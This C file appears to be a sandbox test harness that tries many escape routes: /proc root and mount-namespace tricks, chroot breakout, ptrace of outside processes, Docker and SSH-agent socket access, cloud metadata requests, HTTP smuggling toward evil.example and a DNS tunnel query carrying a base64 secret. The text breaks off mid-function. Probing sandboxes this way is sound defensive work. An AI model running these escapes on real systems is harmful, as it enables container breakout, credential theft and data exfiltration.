/*
 * Ways out of a sandbox: `escapes MEMBER KEY OUTSIDE SOCKET ABSTRACT TCP UDP PID ALLOWED`.
 *
 * KEY is a file that the sandbox hides, OUTSIDE a directory that it does not let write, SOCKET and ABSTRACT are sockets outside, TCP and UDP
 * are ports at 127.0.0.1 outside, PID is a process outside, ALLOWED the one port outside that is allowed. What comes out is told by the
 * test's own ends: by the key's text in the output, by files and connections that arrive, by the process. The output ends with `tried`
 * once the member has done what it can; `unavailable: WHY` is said where the machine does not have what it needs.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *key, *outside, *socket_path, *abstract;
static int tcp, udp, allowed;
static pid_t victim;

static void unavailable(const char *what)
{
    printf("unavailable: %s: %s\n", what, strerror(errno));
}

static void show_fd(int fd)
{
    char text[4096];
    ssize_t length;
    if (fd < 0) return;
    while ((length = read(fd, text, sizeof text)) > 0) fwrite(text, 1, (size_t)length, stdout);
    close(fd);
}

static void show(const char *path) { show_fd(open(path, O_RDONLY | O_CLOEXEC)); }

static void show_in(const char *prefix)
{
    char path[8192];
    snprintf(path, sizeof path, "%s%s", prefix, key);
    show(path);
}

/* A file outside, by its name below `prefix`. */
static void write_in(const char *prefix)
{
    char path[8192];
    snprintf(path, sizeof path, "%s%s/made", prefix, outside);
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd >= 0) { if (write(fd, "x", 1) < 0) perror("write"); close(fd); }
}

/* The last directory of `path`. */
static const char *parent(const char *path)
{
    static char text[8192];
    snprintf(text, sizeof text, "%s", path);
    char *slash = strrchr(text, '/');
    if (slash) *slash = 0;
    return text;
}

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (write(fd, text, strlen(text)) < 0) { /* Refused: the member goes on as it can. */ }
    close(fd);
}

/* Namespaces of the member's own, in which it is root. */
static int own_namespaces(int more)
{
    char map[64];
    unsigned uid = getuid(), gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | more) != 0) { unavailable("namespaces"); return -1; }
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", uid);
    put("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", gid);
    put("/proc/self/gid_map", map);
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    return 0;
}

static void read_plain(void) { show(key); }
static void read_symlink(void) { if (symlink(key, "link") == 0) show("link"); }
static void read_relative(void)
{
    char path[8192] = "";
    for (int i = 0; i < 40; i++) strcat(path, "../");
    strcat(path, key + 1);
    show(path);
}
static void read_proc_root(void) { show_in("/proc/self/root"); show_in("/proc/thread-self/root"); }
static void read_init_root(void) { show_in("/proc/1/root"); write_in("/proc/1/root"); show_in("/proc/1/cwd"); }
static void read_every_root(void)
{
    char path[64];
    for (int pid = 1; pid < 40000; pid++) {
        snprintf(path, sizeof path, "/proc/%d/root", pid);
        if (access(path, F_OK) == 0) { show_in(path); write_in(path); }
    }
}
static void read_victim_root(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/root", victim);
    show_in(path);
    write_in(path);
}
static void read_hard_link(void)
{
    if (link(key, "hard") == 0) show("hard");
    int fd = open(key, O_PATH | O_CLOEXEC);
    if (fd >= 0 && linkat(fd, "", AT_FDCWD, "hard2", AT_EMPTY_PATH) == 0) show("hard2");
    if (rename(key, "moved") == 0) show("moved");
}
static void unmount_home(void)
{
    char path[8192];
    for (snprintf(path, sizeof path, "%s", key); strchr(path + 1, '/'); *strrchr(path, '/') = 0)
        while (umount2(path, MNT_DETACH) == 0) { }
    umount2("/dev", MNT_DETACH);
    umount2("/tmp", MNT_DETACH);
    show(key);
    write_in("");
}
static void unmount_in_namespace(void) { if (own_namespaces(0) == 0) unmount_home(); }
static void bind_around(void)
{
    char path[8192], inner[8192];
    if (own_namespaces(0) != 0) return;
    mkdir("bound", 0700);
    for (snprintf(path, sizeof path, "%s", parent(key)); path[0]; ) {
        if (mount(path, "bound", NULL, MS_BIND, NULL) == 0) {
            snprintf(inner, sizeof inner, "bound%s", key + strlen(path));
            show(inner);
            umount2("bound", MNT_DETACH);
        }
        *strrchr(path, '/') = 0;
    }
    if (mount("/", "bound", NULL, MS_BIND, NULL) == 0) { show_in("bound"); write_in("bound"); }
}
static void bind_all(void)
{
    char path[8192];
    if (own_namespaces(0) != 0) return;
    mkdir("bound", 0700);
    if (mount("/", "bound", NULL, MS_BIND | MS_REC, NULL) != 0) { unavailable("a recursive bind"); return; }
    for (snprintf(path, sizeof path, "bound%s", parent(key)); strcmp(path, "bound") != 0; *strrchr(path, '/') = 0)
        while (umount2(path, MNT_DETACH) == 0) { }
    show_in("bound");
    mount(NULL, "bound", NULL, MS_REMOUNT | MS_BIND, NULL);
    write_in("bound");
}
static void move_mounts(void)
{
    char path[8192];
    if (own_namespaces(0) != 0) return;
    mkdir("away", 0700);
    for (snprintf(path, sizeof path, "%s", parent(key)); path[0]; *strrchr(path, '/') = 0)
        if (mount(path, "away", NULL, MS_MOVE, NULL) == 0) show(key);
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */);
    if (tree >= 0) { int fd = openat(tree, key + 1, O_RDONLY); show_fd(fd); close(tree); }
}
static void pivot(void)
{
    if (own_namespaces(0) != 0) return;
    mkdir("new", 0700);
    if (mount("/", "new", NULL, MS_BIND | MS_REC, NULL) != 0 || chdir("new") != 0) return;
    if (syscall(SYS_pivot_root, ".", "tmp") == 0) { show_in("/tmp"); write_in("/tmp"); umount2("/tmp", MNT_DETACH); show(key); }
}
static void break_chroot(void)
{
    if (own_namespaces(0) != 0) return;
    mkdir("jail", 0700);
    int here = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("jail") != 0 || fchdir(here) != 0) return;
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
    if (chroot(".") == 0) { show(key); write_in(""); }
}
static void remount(void)
{
    write_in("");
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    mount(NULL, parent(outside), NULL, MS_REMOUNT | MS_BIND, NULL);
    write_in("");
    if (own_namespaces(0) != 0) return;
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    mkdir("rw", 0700);
    if (mount(outside, "rw", NULL, MS_BIND, NULL) == 0) {
        mount(NULL, "rw", NULL, MS_REMOUNT | MS_BIND, NULL);
        int fd = open("rw/made", O_WRONLY | O_CREAT, 0600);
        if (fd >= 0) close(fd);
    }
    write_in("");
}
static void fresh_proc(void)
{
    if (own_namespaces(CLONE_NEWPID) != 0) return;
    pid_t pid = fork();
    if (pid == 0) {
        if (mount("proc", "/proc", "proc", 0, NULL) != 0) unavailable("a /proc of its own");
        show_in("/proc/1/root");
        int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
        if (fd >= 0) printf("OUT: core_pattern can be written\n");
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
}
static void overlay(void)
{
    char options[20000], inner[8192];
    if (own_namespaces(0) != 0) return;
    mkdir("over", 0700); mkdir("merged", 0700);
    if (mount("tmpfs", "over", "tmpfs", 0, NULL) != 0) return;
    mkdir("over/up", 0700); mkdir("over/work", 0700);
    snprintf(options, sizeof options, "lowerdir=/,upperdir=over/up,workdir=over/work");
    if (mount("overlay", "merged", "overlay", 0, options) == 0) show_in("merged");
    char *around = strdup(parent(key));
    *strrchr(around, '/') = 0;
    snprintf(options, sizeof options, "lowerdir=%s:/tmp", around);
    if (mount("overlay", "merged", "overlay", 0, options) == 0) {
        snprintf(inner, sizeof inner, "merged%s", key + strlen(around));
        show(inner);
    }
}
/* By a handle: of the root directory, whose inode number is known in many file systems, and of the working directory with others. */
static void handles(void)
{
    struct { struct file_handle head; unsigned char bytes[128]; } handle;
    int mount_id, here = open(".", O_RDONLY | O_DIRECTORY), at = open("/", O_RDONLY | O_DIRECTORY);
    handle.head.handle_bytes = sizeof handle.bytes;
    if (name_to_handle_at(AT_FDCWD, "/", &handle.head, &mount_id, 0) != 0) { unavailable("handles"); return; }
    int roots[] = {at, here};
    for (int i = 0; i < 2; i++) {
        int fd = open_by_handle_at(roots[i], &handle.head, O_RDONLY | O_DIRECTORY);
        if (fd >= 0) { show_fd(openat(fd, key + 1, O_RDONLY)); close(fd); }
        for (uint32_t inode = 1; inode < 300; inode++) {
            memset(handle.bytes, 0, 8);
            handle.head.handle_bytes = 8;
            handle.head.handle_type = 1;
            memcpy(handle.head.f_handle, &inode, sizeof inode);
            fd = open_by_handle_at(roots[i], &handle.head, O_RDONLY);
            if (fd >= 0) { show_fd(openat(fd, key + 1, O_RDONLY)); close(fd); }
        }
    }
}
static void devices(void)
{
    static const char *const names[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vda1", "/dev/loop0", "/dev/fuse"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDONLY);
        if (fd >= 0) { printf("OUT: opened %s\n", names[i]); close(fd); }
    }
    struct stat root;
    if (stat("/", &root) != 0) return;
    for (int in_namespace = 0; in_namespace < 2; in_namespace++) {
        if (mknod("disk", S_IFBLK | 0600, root.st_dev) == 0 && open("disk", O_RDONLY) >= 0) printf("OUT: opened the disk\n");
        if (mknod("memory", S_IFCHR | 0600, makedev(1, 1)) == 0 && open("memory", O_RDONLY) >= 0) printf("OUT: opened the memory\n");
        if (in_namespace == 0 && own_namespaces(0) != 0) return;
    }
}
static void trace(void)
{
    char byte, path[64];
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    if (ptrace(PTRACE_ATTACH, victim, NULL, NULL) == 0 || ptrace(PTRACE_SEIZE, victim, NULL, NULL) == 0) printf("OUT: traces %d\n", victim);
    if (process_vm_readv(victim, &local, 1, &remote, 1, 0) == 1) printf("OUT: reads the memory of %d\n", victim);
    snprintf(path, sizeof path, "/proc/%d/mem", victim);
    if (open(path, O_RDONLY) >= 0) printf("OUT: opened %s\n", path);
    snprintf(path, sizeof path, "/proc/%d/environ", victim);
    show(path);
    int init = ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0;
    if (init) printf("OUT: traces the init\n");
}
static void kill_outside(void)
{
    kill(victim, SIGKILL);
    int fd = (int)syscall(SYS_pidfd_open, victim, 0);
    if (fd >= 0) syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0);
    if (fd >= 0 && syscall(SYS_pidfd_getfd, fd, 0, 0) >= 0) printf("OUT: has a descriptor of %d\n", victim);
    syscall(SYS_tgkill, victim, victim, SIGKILL);
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0 && fcntl(pair[0], F_SETOWN, victim) == 0) {
        fcntl(pair[0], F_SETSIG, SIGKILL);
        fcntl(pair[0], F_SETFL, O_ASYNC);
        if (write(pair[1], "x", 1) < 0) perror("write");
    }
}
static void kill_all(void)
{
    pid_t pid = fork();
    if (pid == 0) { setsid(); kill(-1, SIGKILL); _exit(0); }
    waitpid(pid, NULL, 0);
}
static void connect_unix(const char *path, size_t length, int type)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, type, 0);
    memcpy(address.sun_path, path, length < sizeof address.sun_path ? length : sizeof address.sun_path);
    if (connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length)) == 0) {
        printf("OUT: connected to a socket\n");
        if (write(fd, "out", 3) < 0) perror("write");
    }
    close(fd);
}
static void unix_socket(void) { connect_unix(socket_path, strlen(socket_path), SOCK_STREAM); }
static void unix_symlink(void) { if (symlink(socket_path, "s") == 0) connect_unix("s", 1, SOCK_STREAM); }
static void unix_proc_root(void)
{
    char path[8192];
    static const char *const prefixes[] = {"/proc/self/root", "/proc/1/root", "/proc/1/cwd"};
    for (size_t i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s%s", prefixes[i], socket_path);
        if (symlink(path, "r") == 0) connect_unix("r", 1, SOCK_STREAM);
        unlink("r");
    }
}
static void unix_known(void)
{
    static const char *const known[] = {"/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/user/0/bus", "/tmp/.X11-unix/X0", "/run/podman/podman.sock"};
    for (size_t i = 0; i < sizeof known / sizeof *known; i++) connect_unix(known[i], strlen(known[i]), SOCK_STREAM);
}
static void unix_agent(void)
{
    const char *names[] = {"SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST"};
    for (int i = 0; i < 3; i++) {
        const char *value = getenv(names[i]);
        const char *path = value ? strchr(value, '/') : NULL;
        if (path) connect_unix(path, strlen(path), SOCK_STREAM);
    }
}
static void abstract_socket(void)
{
    char name[100] = "";
    snprintf(name + 1, sizeof name - 1, "%s", abstract);
    connect_unix(name, strlen(abstract) + 1, SOCK_STREAM);
    connect_unix(name, strlen(abstract) + 1, SOCK_SEQPACKET);
}
static int connect_v4(const char *host, int port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    struct timeval second = {1, 0};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &second, sizeof second);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
    inet_pton(AF_INET, host, &address.sin_addr);
    if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) return fd;
    close(fd);
    return -1;
}
static void tcp_loopback(void)
{
    int fd = connect_v4("127.0.0.1", tcp);
    if (fd >= 0) { printf("OUT: connected\n"); if (write(fd, "out", 3) < 0) perror("write"); }
    if (connect_v4("0.0.0.0", tcp) >= 0 || connect_v4("127.1.2.3", tcp) >= 0) printf("OUT: connected\n");
}
static void tcp_v6(void)
{
    static const char *const hosts[] = {"::1", "::ffff:127.0.0.1", "2001:db8::1", "fe80::1"};
    for (size_t i = 0; i < 4; i++) {
        struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)tcp)};
        inet_pton(AF_INET6, hosts[i], &address.sin6_addr);
        int fd = socket(AF_INET6, SOCK_STREAM, 0);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0) printf("OUT: connected to %s\n", hosts[i]);
    }
}
static void send_udp(const char *host, int port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &address.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(fd, "out", 3, 0, (struct sockaddr *)&address, sizeof address) == 3 && strncmp(host, "127.", 4) != 0 && strncmp(host, "198.18.", 7) != 0)
        printf("OUT: sent to %s\n", host);
}
static void udp_out(void) { send_udp("127.0.0.1", udp); send_udp("8.8.8.8", 53); send_udp("255.255.255.255", 67); send_udp("224.0.0.251", 5353); }
static void quic(void) { send_udp("1.1.1.1", 443); }
static void raw_sockets(void)
{
    static const int raw[][3] = {{AF_INET, SOCK_RAW, IPPROTO_ICMP}, {AF_INET, SOCK_RAW, IPPROTO_RAW}, {AF_INET6, SOCK_RAW, IPPROTO_ICMPV6}, {AF_PACKET, SOCK_RAW, 0x300}, {AF_PACKET, SOCK_DGRAM, 0x300}};
    for (size_t i = 0; i < 5; i++)
        if (socket(raw[i][0], raw[i][1], raw[i][2]) >= 0) printf("OUT: has a raw socket of family %d\n", raw[i][0]);
}
static void netlink(void)
{
    struct { struct nlmsghdr head; struct rtmsg route; char room[64]; } request;
    memset(&request, 0, sizeof request);
    request.head.nlmsg_len = NLMSG_LENGTH(sizeof request.route);
    request.head.nlmsg_type = RTM_NEWROUTE;
    request.head.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE;
    request.route.rtm_family = AF_INET;
    request.route.rtm_table = RT_TABLE_MAIN;
    request.route.rtm_protocol = RTPROT_BOOT;
    request.route.rtm_type = RTN_UNICAST;
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    char answer[1024];
    if (fd < 0 || send(fd, &request, request.head.nlmsg_len, 0) < 0) return;
    ssize_t length = recv(fd, answer, sizeof answer, 0);
    struct nlmsghdr *head = (struct nlmsghdr *)answer;
    if (length > 0 && head->nlmsg_type == NLMSG_ERROR) {
        int error = ((struct nlmsgerr *)NLMSG_DATA(head))->error;
        if (error != -EPERM) printf("OUT: may change routes (%d)\n", error);
    }
}
static void enter_network(void)
{
    char path[64];
    for (int pid = 1; pid < 40000; pid++) {
        snprintf(path, sizeof path, "/proc/%d/ns/net", pid);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        if (setns(fd, CLONE_NEWNET) == 0) { printf("OUT: entered the network of %d\n", pid); tcp_loopback(); }
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%d/ns/mnt", victim);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0) { show(key); write_in(""); }
    if (own_namespaces(CLONE_NEWNET) == 0) { tcp_loopback(); }
}
static void question(const char *server, const char *name)
{
    unsigned char message[300] = {0x12, 0x34, 1, 0, 0, 1}, answer[1500];
    size_t at = 12;
    char *copy = strdup(name);
    for (char *label = strtok(copy, "."); label; label = strtok(NULL, ".")) {
        message[at++] = (unsigned char)strlen(label);
        memcpy(message + at, label, strlen(label));
        at += strlen(label);
    }
    memcpy(message + at, "\0\0\x10\0\1", 5); /* TXT */
    at += 5;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(53)};
    struct timeval second = {1, 0};
    inet_pton(AF_INET, server, &address.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &second, sizeof second);
    if (sendto(fd, message, at, 0, (struct sockaddr *)&address, sizeof address) < 0) return;
    ssize_t length = recv(fd, answer, sizeof answer, 0);
    if (length > 7 && (answer[3] & 15) == 0 && (answer[6] || answer[7])) printf("OUT: %s answers for %s\n", server, name);
    if (length > 3 && (answer[3] & 15) != 5) printf("OUT: %s does not refuse %s (%d)\n", server, name, answer[3] & 15);
}
static void dns_tunnel(void)
{
    question("127.0.0.1", "c2VjcmV0.tunnel.example");
    question("8.8.8.8", "c2VjcmV0.tunnel.example");
    question("127.0.0.53", "c2VjcmV0.tunnel.example");
}
/* What the proxy of the session answers. */
static void through_proxy(const char *first, size_t first_length, const char *second, size_t second_length)
{
    char answer[8192] = "";
    size_t length = 0;
    ssize_t got;
    int fd = connect_v4("127.0.0.1", 61080);
    if (fd < 0) return;
    if (write(fd, first, first_length) < 0) perror("write");
    if (second) {
        got = read(fd, answer, sizeof answer - 1);
        if (got > 0) length = (size_t)got;
        if (write(fd, second, second_length) < 0) perror("write");
    }
    while (length + 1 < sizeof answer && (got = read(fd, answer + length, sizeof answer - 1 - length)) > 0) length += (size_t)got;
    printf("%.*s\n", (int)length, answer);
    close(fd);
}
static void ask_proxy(const char *request) { through_proxy(request, strlen(request), NULL, 0); }
static void metadata(void)
{
    if (connect_v4("169.254.169.254", 80) >= 0) printf("OUT: connected\n");
    ask_proxy("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n");
    ask_proxy("CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n");
    ask_proxy("GET http://[fd00:ec2::254]/ HTTP/1.1\r\n\r\n");
    ask_proxy("GET http://2852039166/ HTTP/1.1\r\n\r\n");
    ask_proxy("GET http://0xa9fea9fe/ HTTP/1.1\r\n\r\n");
}
static void proxy_other_port(void)
{
    char request[300];
    snprintf(request, sizeof request, "CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\nout", tcp);
    ask_proxy(request);
    snprintf(request, sizeof request, "GET http://127.0.0.1:%d/out HTTP/1.1\r\n\r\n", tcp);
    ask_proxy(request);
    snprintf(request, sizeof request, "GET http://localhost:%d/out HTTP/1.1\r\n\r\n", tcp);
    ask_proxy(request);
    snprintf(request, sizeof request, "GET http://127.0.0.1:%d@127.0.0.1:%d/out HTTP/1.1\r\n\r\n", allowed, tcp);
    ask_proxy(request);
    snprintf(request, sizeof request, "CONNECT [::1]:%d HTTP/1.1\r\n\r\nout", tcp);
    ask_proxy(request);
}
static void proxy_host_header(void)
{
    char request[500];
    snprintf(request, sizeof request, "GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: evil.example\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", allowed);
    ask_proxy(request);
    snprintf(request, sizeof request, "POST http://127.0.0.1:%d/ HTTP/1.1\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", allowed);
    ask_proxy(request);
}
/* The proxy leads to the allowed port, with a greeting for somebody else. */
static void proxy_greeting(void)
{
    static const unsigned char hello[] = {
        0x16, 3, 1, 0, 72, 1, 0, 0, 68, 3, 3, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32,
        0, 0, 2, 0x13, 1, 1, 0, 0, 25, 0, 0, 0, 17, 0, 15, 0, 0, 12, 'e', 'v', 'i', 'l', '.', 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 23, 0, 0};
    char request[100];
    int length = snprintf(request, sizeof request, "CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n", allowed);
    through_proxy(request, (size_t)length, (const char *)hello, sizeof hello);
}
/* The allowed server sends it on to the other port. */
static void redirect(void)
{
    char request[300], answer[4096] = "";
    int fd = connect_v4("127.0.0.1", 61080);
    if (fd < 0) return;
    snprintf(request, sizeof request, "GET http://127.0.0.1:%d/redirect HTTP/1.1\r\n\r\n", allowed);
    if (write(fd, request, strlen(request)) < 0) perror("write");
    ssize_t length = 0, got;
    while (length + 1 < (ssize_t)sizeof answer && (got = read(fd, answer + length, sizeof answer - 1 - (size_t)length)) > 0) length += got;
    char *location = strstr(answer, "Location: ");
    if (!location) return; /* The allowed port is not allowed where the network is off. */
    char *end = strchr(location, '\r');
    if (end) *end = 0;
    snprintf(request, sizeof request, "GET %.200s HTTP/1.1\r\n\r\n", location + 10);
    ask_proxy(request);
}
static void vsock(void)
{
    struct sockaddr_vm address = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024};
    for (unsigned cid = 1; cid < 4; cid++) {
        int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_NONBLOCK, 0);
        address.svm_cid = cid;
        if (fd >= 0 && (connect(fd, (struct sockaddr *)&address, sizeof address) == 0 || errno == EINPROGRESS || errno == ECONNRESET))
            printf("OUT: vsock reaches %u\n", cid);
    }
}
static void shared_memory(void)
{
    for (int id = 0; id < 65536; id++) {
        void *at = shmat(id, NULL, SHM_RDONLY);
        if (at != (void *)-1) printf("OUT: attached %d: %.40s\n", id, (char *)at);
    }
    int id = shmget(0x45534341, 0, 0);
    if (id >= 0) printf("OUT: found a segment\n");
}
static void io_uring(void)
{
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    int ring = (int)syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0) { unavailable("io_uring"); return; }
    size_t sq_size = params.sq_off.array + params.sq_entries * sizeof(unsigned), cq_size = params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, params.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return;
    struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons((uint16_t)tcp), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_un local = {.sun_family = AF_UNIX};
    strncpy(local.sun_path, socket_path, sizeof local.sun_path - 1);
    int fds[2] = {socket(AF_INET, SOCK_STREAM, 0), socket(AF_UNIX, SOCK_STREAM, 0)};
    for (int step = 0; step < 3; step++) {
        unsigned *tail = (unsigned *)(sq + params.sq_off.tail), *mask = (unsigned *)(sq + params.sq_off.ring_mask);
        unsigned at = *tail & *mask;
        memset(&sqes[at], 0, sizeof *sqes);
        if (step == 0) {
            sqes[at].opcode = IORING_OP_OPENAT;
            sqes[at].fd = AT_FDCWD;
            sqes[at].addr = (uintptr_t)key;
            sqes[at].open_flags = O_RDONLY;
        } else {
            sqes[at].opcode = IORING_OP_CONNECT;
            sqes[at].fd = fds[step - 1];
            sqes[at].addr = step == 1 ? (uintptr_t)&inet : (uintptr_t)&local;
            sqes[at].off = step == 1 ? sizeof inet : sizeof local;
        }
        ((unsigned *)(sq + params.sq_off.array))[at] = at;
        __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
        if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) { unavailable("io_uring_enter"); return; }
        unsigned *head = (unsigned *)(cq + params.cq_off.head), *cq_mask = (unsigned *)(cq + params.cq_off.ring_mask);
        struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + params.cq_off.cqes) + (*head & *cq_mask);
        int result = cqe->res;
        __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
        if (step == 0) show_fd(result);
        else if (result == 0) printf("OUT: connected by io_uring\n");
    }
}
static void kernel_files(void)
{
    static const char *const files[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/power/state", "/proc/sys/kernel/hotplug", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/vm/drop_caches", "/sys/module/kernel/parameters/panic", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/release_agent", "/proc/kcore", "/proc/acpi/wakeup", "/sys/kernel/mm/ksm/run"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int fd = open(files[i], O_WRONLY);
        if (fd >= 0) { printf("OUT: %s can be written\n", files[i]); close(fd); }
    }
    int fd = open("/proc/kcore", O_RDONLY);
    if (fd >= 0) printf("OUT: /proc/kcore can be read\n");
}
static void modules(void)
{
    if (syscall(SYS_init_module, "", 0, "") == 0 || (errno != EPERM && errno != ENOSYS)) printf("OUT: init_module is not refused (%d)\n", errno);
    if (syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0) printf("OUT: kexec_load\n");
    if (sethostname("escaped", 7) == 0) printf("OUT: the host's name\n");
    if (syscall(SYS_acct, "acct") == 0) printf("OUT: acct\n");
    if (syscall(SYS_swapon, "/dev/null", 0) == 0) printf("OUT: swapon\n");
    struct timespec now = {1, 0};
    if (syscall(SYS_clock_settime, CLOCK_REALTIME, &now) == 0) printf("OUT: the clock\n");
}
static void inherited(void)
{
    for (int fd = 3; fd < 1024; fd++) {
        struct stat stat;
        if (fstat(fd, &stat) == 0) printf("OUT: descriptor %d came along\n", fd);
    }
    int fd = open("/proc/self/fd/0", O_RDONLY | O_NONBLOCK);
    if (fd >= 0) { show_fd(openat(fd, key + 1, O_RDONLY)); }
}
static void perf(void)
{
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_CPU_CLOCK};
    if (syscall(SYS_perf_event_open, &attr, victim, -1, -1, 0) >= 0) printf("OUT: perf of %d\n", victim);
    if (syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0) >= 0) printf("OUT: perf of the processor\n");
}
static void write_plain(void)
{
    write_in("");
    write_in("/proc/self/root");
    char path[8192];
    /* In a /tmp of its own all of this is possible, and changes nothing outside. */
    snprintf(path, sizeof path, "%s/made", outside);
    int done = mkdir(outside, 0700) == 0;
    done |= rename("file", path) == 0 || link("file", path) == 0 || symlink("file", path) == 0;
    snprintf(path, sizeof path, "%s/kept", outside);
    done |= unlink(path) == 0 || truncate(path, 0) == 0 || chmod(path, 0) == 0;
    if (done) printf("something was changed\n");
}
static void write_link(void)
{
    if (symlink(outside, "dir") != 0) return;
    int fd = open("dir/made", O_WRONLY | O_CREAT, 0600);
    if (fd >= 0) close(fd);
}
static void watch(void)
{
    int fd = (int)syscall(SYS_fanotify_init, 0, O_RDONLY);
    if (fd >= 0 && syscall(SYS_fanotify_mark, fd, 1 | 0x100 /* ADD, FILESYSTEM */, 0x20ULL, AT_FDCWD, "/") == 0) printf("OUT: fanotify of the file system\n");
    if (own_namespaces(0) == 0) {
        fd = (int)syscall(SYS_fanotify_init, 0, O_RDONLY);
